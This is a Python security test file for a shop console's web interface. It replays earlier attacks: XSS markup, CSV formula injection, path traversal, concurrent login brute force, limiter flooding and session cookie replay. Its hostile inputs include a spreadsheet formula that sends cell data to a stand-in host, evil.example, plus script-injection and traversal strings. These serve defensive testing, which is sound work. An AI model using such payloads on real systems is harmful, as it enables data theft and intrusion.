"""An outside attacker on the console's web side, through the ASGI app.

Each test is an attack that once worked: kiosk events whose fields pick a
sentence that lacks them (the Sites and Tonight pages answered 500, the CSV
was cut short with a 200), formulas in the CSV export, orders from the API
without the optional fields the order page assumed, forty logins sent at
once (forty password checks), a flood of made-up names pushing a real
account's failures out of the limiter, and responses without the safe
headers (static files, the QR code, redirects, 405s). The live stream's
attacks need a real server: tests/console/test_attacks_served.py.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from hub.archive import Incoming
from hub.console.guard import ACCOUNT_FREE, MAX_TRACKED, LoginLimiter
from hub.web.console_sites import FORMULA_LEAD
from hub.web.headers import BARE_CSP
from protocol.canonical import dumps
from protocol.events import EVENT_TYPES, build_event
from tests.support.console import PASSWORD, Env, csrf_of, make_env

SETTINGS = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
MARKUP = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
hostile_text = st.one_of(
    st.sampled_from(
        [
            "other",
            "",
            MARKUP,
            FORMULA,
            "+1+1",
            "-2-2",
            "@SUM(1)",
            "\t=1",
            "＝1",
            "javascript:alert(1)",
            "{no}{reason}{0}",
            "\u202e",
            "x" * 300,
        ]
    ),
    st.text(max_size=40),
)
hostile_value = st.one_of(
    hostile_text, st.integers(), st.none(), st.lists(hostile_text, max_size=2), st.booleans()
)
event_type = st.one_of(st.sampled_from(sorted(EVENT_TYPES)), st.just("other"), hostile_text)
detail = st.dictionaries(
    st.sampled_from(
        [
            "reason",
            "by",
            "action",
            "status",
            "name",
            "role",
            "account",
            "cmd",
            "refusal",
            "kind",
            "pickup_no",
            "wait_s",
            "held_s",
            "mode",
            "ok",
        ]
    ),
    hostile_value,
    max_size=5,
)


@pytest.fixture
def env(tmp_path: Path) -> Env:
    e = make_env(tmp_path)
    e.add_account("amy")
    e.login("amy")
    return e


def _append(env: Env, site: str, specs: list[tuple[str, str | None, dict[str, Any]]]) -> None:
    """Chain ``specs`` after the site's archived tail, as a publisher on its topic could."""
    tail = env.ctx.archive.chain(site).tail
    prev, out = tail.hash, []
    for i, (kind, oid, det) in enumerate(specs, tail.seq + 1):
        ev = build_event(
            site=site,
            seq=i,
            prev_hash=prev,
            ts=env.clock() - 60,
            clock="synced",
            type_=kind[:64] or "x",
            order_id=oid,
            detail=det,
        )
        prev = ev["hash"]
        out.append(Incoming(site, dumps(ev)))
    env.ctx.archive.ingest(out, env.clock())


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@SETTINGS
@given(
    specs=st.lists(
        st.tuples(event_type, st.sampled_from([None, "HM-1", "-1-1"]), detail),
        min_size=1,
        max_size=4,
    )
)
@example(specs=[("code_rejected", None, {"reason": "other"})])
@example(specs=[("door_unlocked", None, {"by": "other"})])
@example(specs=[("other", None, {})])
@example(specs=[(FORMULA, "-1-1", {"name": FORMULA, "action": "other"})])
def test_odd_events_never_break_a_page_and_never_run(
    env: Env, specs: list[tuple[str, str | None, dict[str, Any]]]
) -> None:
    if not env.ctx.orders.search("shop-a", env.clock(), status=None):
        env.ctx.orders.create(
            "shop-a",
            {"order_id": "-1-1", "status": "ready", "customer": {"name": FORMULA}},
            env.clock(),
        )
    _append(env, "shop-a", specs)
    seq = env.ctx.archive.chain("shop-a").tail.seq
    for path in (
        "/console/",
        "/console/sites/shop-a/tonight",
        f"/console/sites/shop-a/events/{seq}",
        "/console/sites/shop-a/tonight?type=people",
    ):
        r = env.client.get(path, headers={"Accept-Language": "en"})
        assert r.status_code == 200, (path, r.text[:300])
        assert MARKUP not in r.text and "<img src=x" not in r.text
    r = env.client.get("/console/sites/shop-a/tonight.csv", headers={"Accept-Language": "en"})
    assert r.status_code == 200
    rows = _csv_rows(r.text)
    assert len(rows) == seq + 1, "the export holds every event, none cut off"
    for row in rows[1:]:
        assert not any(cell.startswith(FORMULA_LEAD) for cell in row), row


def test_a_formula_in_the_export_is_shown_as_text(env: Env) -> None:
    _append(env, "shop-a", [(FORMULA, "-1-1", {}), ("staff_entry", None, {"name": "=1+1"})])
    rows = _csv_rows(env.client.get("/console/sites/shop-a/tonight.csv").text)
    by_seq = {r[1]: r for r in rows[1:]}
    assert by_seq["1"][4] == "'" + FORMULA and by_seq["1"][5] == "'-1-1"
    assert by_seq["2"][7].startswith("'=")  # the masked name leads the sentence


def test_the_filters_stay_one_value_each_in_the_export_link(env: Env) -> None:
    r = env.client.get("/console/sites/shop-a/tonight", params={"from": "2026-05-01&type=x"})
    assert r.status_code == 422  # a bad date, but the page (and its CSV link) still renders
    link = re.search(r'href="(/console/sites/shop-a/tonight\.csv[^"]*)"', r.text)
    assert link and link.group(1).endswith("?from=2026-05-01%26type%3Dx")


order_body = st.fixed_dictionaries(
    {"status": st.sampled_from(["paid", "ready", "pending_payment"])},
    optional={
        "customer": st.fixed_dictionaries(
            {},
            optional={
                "name": st.sampled_from(["李少云", MARKUP[:60], ""]),
                "phone_tail": st.sampled_from(["1234", ""]),
            },
        ),
        "items": st.lists(
            st.fixed_dictionaries(
                {"name": st.sampled_from(["红提", MARKUP[:60]])},
                optional={"qty": st.integers(1, 9), "unit": st.sampled_from(["盒", ""])},
            ),
            max_size=3,
        ),
        "slot": st.sampled_from(["B3", "<b>"]),
    },
)


@SETTINGS
@given(body=order_body)
@example(body={"status": "ready", "customer": {"name": "x"}})
@example(body={"status": "ready", "items": [{"name": "x", "qty": 1}]})
@example(body={"status": "ready", "items": [{"name": "x"}]})
def test_orders_from_the_api_show_without_their_optional_fields(
    env: Env, body: dict[str, Any]
) -> None:
    n = len(env.ctx.orders.search("shop-a", env.clock(), status=None, limit=10000))
    oid = f"API-{n}"
    view = env.ctx.orders.create("shop-a", {"order_id": oid, **body}, env.clock()).body
    for path in (f"/console/orders/shop-a/{oid}", "/console/orders?site=shop-a&status=all"):
        r = env.client.get(path)
        assert r.status_code == 200, (path, r.text[:300])
        assert MARKUP[:60] not in r.text and "<b>" not in r.text
    token = env.ctx.orders.get("shop-a", oid, env.clock())["customer_url"].rsplit("/", 1)[1]
    page = env.client.get(f"/c/{token}")
    assert page.status_code == 200 and str(view["pickup_no"]) in page.text


def test_logins_sent_at_once_get_only_the_free_tries(env: Env) -> None:
    """Forty wrong passwords at once and then the right one: each login is counted
    when it starts, so five are checked, the rest wait, the right one too."""
    env.client.cookies.clear()

    async def attack() -> list[int]:
        transport = httpx.ASGITransport(app=env.client.app)
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:8080") as c:
            page = await c.get("/console/login")
            token = csrf_of(page.text)

            async def one(password: str) -> int:
                r = await c.post(
                    "/console/login", data={"name": "amy", "password": password, "csrf": token}
                )
                return r.status_code

            wrong = await asyncio.gather(*(one(f"wrong {i}") for i in range(40)))
            return [*wrong, await one(PASSWORD)]

    codes = asyncio.run(attack())
    assert codes.count(401) == ACCOUNT_FREE, codes
    assert codes.count(429) == 40 - ACCOUNT_FREE + 1 and codes[-1] == 429
    failed = [a for a in env.console.accounts.audit_log() if a["action"] == "login_failed"]
    assert len(failed) == ACCOUNT_FREE


def test_a_flood_of_made_up_names_never_resets_a_real_account() -> None:
    lim = LoginLimiter()
    for i in range(ACCOUNT_FREE):
        assert lim.attempt("amy", f"10.0.0.{i}", 100.0, known=True) == 0
    for i in range(MAX_TRACKED + 10):  # from many addresses, as a botnet would
        lim.attempt(f"nobody{i}", f"2001:db8::{i:x}", 100.0, known=False)
    assert lim.wait("amy", "10.9.9.9", 101.0) > 0, "the real account still waits"
    assert len(lim.names) <= MAX_TRACKED and len(lim.addresses) <= MAX_TRACKED
    lim.succeeded("amy", "10.0.0.4")
    assert lim.wait("amy", "10.0.0.4", 101.0) == 0


def test_a_right_password_forgives_its_own_try() -> None:
    lim = LoginLimiter()
    for i in range(50):
        assert lim.attempt("amy", "10.0.0.1", float(i), known=True) == 0
        lim.succeeded("amy", "10.0.0.1")
    assert lim.wait("amy", "10.0.0.1", 50.0) == 0


def test_every_response_carries_the_safe_headers(env: Env) -> None:
    env.ctx.orders.create("shop-a", {"order_id": "Q-1", "status": "ready"}, env.clock())
    for method, path, status in (
        ("GET", "/static/console.js", 200),
        ("GET", "/console/orders/shop-a/Q-1/qr.svg", 200),
        ("GET", "/console/sites/shop-a/tonight.csv", 200),
        ("GET", "/console/lang/en?next=/console/", 303),
        ("GET", "/", 303),
        ("POST", "/console/", 405),
        ("DELETE", "/c/abcdefghijklmnopqrstuvwxyz", 405),
        ("GET", "/static/../hub.toml", 404),
        ("GET", "/api/v1/health", 200),
    ):
        r = env.client.request(method, path, follow_redirects=False)
        assert r.status_code == status, (path, r.status_code)
        assert r.headers["x-content-type-options"] == "nosniff", path
        assert r.headers["x-frame-options"] == "DENY", path
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"], path
        assert r.headers["referrer-policy"] == "same-origin", path
    svg = env.client.get("/console/orders/shop-a/Q-1/qr.svg")
    assert svg.headers["content-security-policy"] == BARE_CSP  # an SVG opened alone runs nothing
    page = env.client.get("/console/")
    assert "script-src 'self'" in page.headers["content-security-policy"]  # pages keep theirs
    r = env.client.post("/console/", follow_redirects=False)
    assert set(r.headers["allow"].split(", ")) == {"GET", "HEAD"} and "Traceback" not in r.text


def test_the_customers_status_as_json_is_not_cached(env: Env) -> None:
    env.ctx.orders.create("shop-a", {"order_id": "J-1", "status": "ready"}, env.clock())
    token = env.ctx.orders.get("shop-a", "J-1", env.clock())["customer_url"].rsplit("/", 1)[1]
    for t in (token, "x" * 30):
        r = env.client.get(f"/c/{t}", headers={"Accept": "application/json"})
        assert r.headers["cache-control"] == "no-store", t
        page = env.client.get(f"/c/{t}")
        assert page.headers["cache-control"] == "no-store"
        assert page.headers["referrer-policy"] == "same-origin"
        assert "noindex" in page.headers["x-robots-tag"]
        assert re.search(r"\d{6}", r.text) is None or "pickup_no" in r.text


PARAM_VALUES = (
    "shop-a",
    "nowhere",
    "%2e%2e%2fhub.toml",
    "%00",
    "%E2%80%AE",
    "9" * 40,
    "名字",
    "x" * 300,
)


def _paths(app: Any) -> list[str]:
    """Every route's path with each hostile value in every parameter."""
    from starlette.routing import Mount, Route

    out = []
    for route in app.routes:
        if isinstance(route, Mount):
            inner = [r.path for r in route.routes if isinstance(r, Route)]
            out += [route.path + p for p in inner] or [route.path + "/console.js"]
        elif isinstance(route, Route):
            out.append(route.path)
    filled = []
    for path in out:
        for value in PARAM_VALUES:
            filled.append(re.sub(r"\{[^}]+\}", value, path))
    return sorted(set(filled))


@pytest.mark.parametrize("who", ["nobody", "staff", "owner"])
def test_every_route_and_method_answers_plainly(tmp_path: Path, who: str) -> None:
    """HEAD, OPTIONS, GET and odd methods on every route, with unknown sites and ids,
    NUL, Unicode and 300-character parameters: never a 5xx, never a traceback, always
    the safe headers."""
    env = make_env(tmp_path)
    env.add_account("amy", "owner")
    env.add_account("sam", "staff")
    from starlette.testclient import TestClient

    from hub.web import create_app

    client = TestClient(create_app(env.ctx), base_url="http://127.0.0.1:8080")
    env.client = client
    if who != "nobody":
        env.login("amy" if who == "owner" else "sam")
    for path in _paths(client.app):
        if path == "/console/live":
            continue  # a stream (test_attacks_served.py)
        for method in ("GET", "HEAD", "OPTIONS", "PUT", "PROPFIND"):
            r = client.request(method, path, follow_redirects=False)
            assert r.status_code < 500, (method, path, r.status_code)
            assert "Traceback" not in r.text and 'File "' not in r.text, (method, path)
            assert r.headers["x-content-type-options"] == "nosniff", (method, path)
            assert "frame-ancestors 'none'" in r.headers["content-security-policy"], path
            if r.status_code == 405:
                assert "allow" in r.headers, (method, path)


NOT_ASCII_DIGITS = ("¹", "²³", "٣", "১২", "9" * 5000)


@pytest.mark.parametrize("n", NOT_ASCII_DIGITS)
def test_digits_that_python_calls_digits_but_int_refuses(env: Env, n: str) -> None:
    """``"¹".isdigit()`` is True and ``int("¹")`` raises: every number the console
    reads (a mute's minutes, an item's quantity, an event's seq, cursors, alert ids,
    the API's query numbers) once answered 500 for one of these."""
    env.ctx.orders.create("shop-a", {"order_id": "N-1", "status": "paid"}, env.clock())
    r = env.post(
        "/console/orders/new",
        {"site": "shop-a", "order_id": "N-2", "status": "paid", "items": f"红提 {n}"},
    )
    assert r.status_code in (303, 422)  # a quantity of ASCII digits, else part of the name
    if r.status_code == 303:
        items = env.ctx.orders.get("shop-a", "N-2", env.clock())["items"]
        assert items == [{"name": f"红提 {n}", "qty": 1, "unit": ""}]
    posts = (
        ("/console/mutes", {"site": "shop-a", "kind": "*", "minutes": n}),
        (f"/console/alerts/{n[:64]}/ack", {}),
    )
    for path, data in posts:
        r = env.post(path, data)
        assert r.status_code in (404, 422), (path, r.status_code)
    for path in (
        f"/console/sites/shop-a/events/{n[:64]}",
        f"/console/audit?before={n[:64]}",
        f"/console/sites/shop-a/tonight?before=2026-05-28T00:00:00Z,{n[:64]}",
        f"/console/sites/shop-a/tonight?order={n[:64]}",
    ):
        assert env.client.get(path).status_code in (200, 404, 422), path
    token = env.ctx.tokens.add("shop", env.clock())
    r = env.client.get(
        f"/api/v1/sites/shop-a/events?since={n}", headers={"Authorization": f"Bearer {token}"}
    )
    assert r.status_code == 400, r.text
    assert env.ctx.alerts.mutes(env.clock()) == []
    assert {o["order_id"] for o in env.ctx.orders.search("shop-a", env.clock())} <= {"N-1", "N-2"}


def test_a_password_typed_as_the_name_is_never_kept(
    env: Env, caplog: pytest.LogCaptureFixture
) -> None:
    """The owner types her password into the name box: it is no account, so it is
    neither in the hub's log nor in the console log that staff can read."""
    secret = "Tr0ub4dor.horse-battery"
    caplog.set_level("DEBUG")
    env.login(secret, "whatever it is")
    env.login("amy", "wrong password!")
    failed = [a for a in env.console.accounts.audit_log() if a["action"] == "login_failed"]
    assert [a["account"] for a in failed] == ["amy", "?"]
    env.login("amy")
    assert secret not in env.client.get("/console/audit").text
    assert secret not in caplog.text


def test_a_cookie_outlives_neither_its_hub_nor_its_role(tmp_path: Path) -> None:
    """A session cookie taken to another hub (another secret), the login form's
    cookie sent as a session, and the session of an owner demoted to staff with
    ``adduser --replace``: none of them is a session."""
    from hub.console.accounts import hash_password

    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    a, b = make_env(tmp_path / "a"), make_env(tmp_path / "b")
    for e in (a, b):
        e.add_account("amy")
    a.login("amy")
    cookie = a.client.cookies["ph_session"]
    b.client.cookies.set("ph_session", cookie)
    assert b.client.get("/console/", follow_redirects=False).status_code == 303
    b.client.cookies.clear()
    b.client.get("/console/login")
    b.client.cookies.set("ph_session", b.client.cookies["ph_pre"])
    assert b.client.get("/console/", follow_redirects=False).status_code == 303
    token = a.csrf()
    a.console.accounts.add("amy", "staff", hash_password("a new password"), a.clock(), replace=True)
    r = a.client.post(
        "/console/orders/new",
        data={"csrf": token, "site": "shop-a", "order_id": "D-1", "status": "paid"},
        follow_redirects=False,
    )
    assert r.status_code == 401 and a.ctx.orders.search("shop-a", a.clock()) == []
    assert a.client.get("/console/orders/new", follow_redirects=False).status_code == 303
    for method, path in (("GET", "/console/logout"), ("GET", "/console/logout-everywhere")):
        assert a.client.request(method, path).status_code == 405  # GET never changes state
